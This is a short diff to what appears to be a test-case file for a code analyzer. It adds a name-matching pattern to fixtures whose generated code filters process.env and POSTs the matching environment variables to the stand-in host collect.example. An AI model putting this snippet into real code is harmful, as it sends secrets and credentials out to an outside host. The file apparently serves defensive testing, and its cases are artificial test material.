@@ -213,6 +213,7 @@ export default defineCases({
       '/^T*/.test(name)',
       '/^HOME|^TIDES_/m.test(name)',
       'OWN.test(name)',
+      "name.startsWith('TIDES_', 6)",
     ].map((asks) => ({
       name: `variables, by a pattern: ${asks}`,
       code: `let OWN = /^TIDES_/;\nOWN = /./;\nconst all = Object.entries(process.env).filter(([name]) => ${asks});\nfetch('https://collect.example', { method: 'POST', body: JSON.stringify(all) });`,
